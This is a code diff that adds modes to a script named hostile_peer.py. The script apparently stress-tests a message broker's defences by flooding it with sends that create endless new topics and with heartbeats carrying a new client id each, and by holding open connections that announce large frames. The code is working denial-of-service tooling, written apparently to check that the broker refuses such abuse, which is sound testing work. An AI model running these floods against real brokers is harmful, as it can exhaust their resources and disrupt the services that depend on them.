@@ -5,6 +5,9 @@
                                                       # each of a 4 MB message, reading none
     hostile_peer.py frame-prefixes HOST:PORT SECONDS  # 2,000 connections that each announce a
                                                       # 16 MiB frame and send nothing more
+    hostile_peer.py endless-topics HOST:PORT SECONDS  # sends that each create a new topic
+    hostile_peer.py client-ids HOST:PORT SECONDS      # heartbeats with a new client id each
+    hostile_peer.py stored HOST:PORT TOPIC QUEUES     # prints the messages stored in TOPIC
 
 Each attack holds its connections open for SECONDS, then closes them and exits.
 """
@@ -94,10 +97,54 @@ def frame_prefixes(host, port, seconds):
         sock.close()
 
 
+def endless_topics(host, port, seconds):
+    deadline = time.monotonic() + seconds
+    refused = 0
+    with socket.create_connection((host, port)) as sock:
+        n = 0
+        while time.monotonic() < deadline:
+            n += 1
+            answer = call(sock, 10, {"producerGroup": "hostile", "topic": f"Endless{n}",
+                                     "defaultTopic": "TBW102", "defaultTopicQueueNums": 4,
+                                     "queueId": 0, "sysFlag": 0, "bornTimestamp": 1, "flag": 0,
+                                     "properties": "", "reconsumeTimes": 0,
+                                     "unitMode": "false"}, b"e")
+            refused += answer["code"] != 0
+    print(f"topics tried={n} refused={refused}")
+
+
+def client_ids(host, port, seconds):
+    deadline = time.monotonic() + seconds
+    refused = 0
+    with socket.create_connection((host, port)) as sock:
+        n = 0
+        while time.monotonic() < deadline:
+            n += 1
+            body = json.dumps({"clientID": f"hostile@{n}", "producerDataSet": [{"groupName": "hostile"}],
+                               "consumerDataSet": []}).encode()
+            answer = call(sock, 34, {}, body)
+            refused += answer["code"] != 0
+    print(f"client ids tried={n} refused={refused}")
+
+
+def stored(host, port, topic, queues):
+    total = 0
+    with socket.create_connection((host, port)) as sock:
+        for queue_id in range(int(queues)):
+            answer = call(sock, 30, {"topic": topic, "queueId": queue_id})
+            total += int(answer["extFields"]["offset"])
+    print(total)
+
+
 def main():
-    attack, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
+    attack, address = sys.argv[1], sys.argv[2]
     host, port = address.rsplit(":", 1)
-    {"slow-pulls": slow_pulls, "frame-prefixes": frame_prefixes}[attack](host, int(port), seconds)
+    if attack == "stored":
+        stored(host, int(port), sys.argv[3], sys.argv[4])
+        return
+    seconds = float(sys.argv[3])
+    {"slow-pulls": slow_pulls, "frame-prefixes": frame_prefixes, "endless-topics": endless_topics,
+     "client-ids": client_ids}[attack](host, int(port), seconds)
 
 
 if __name__ == "__main__":
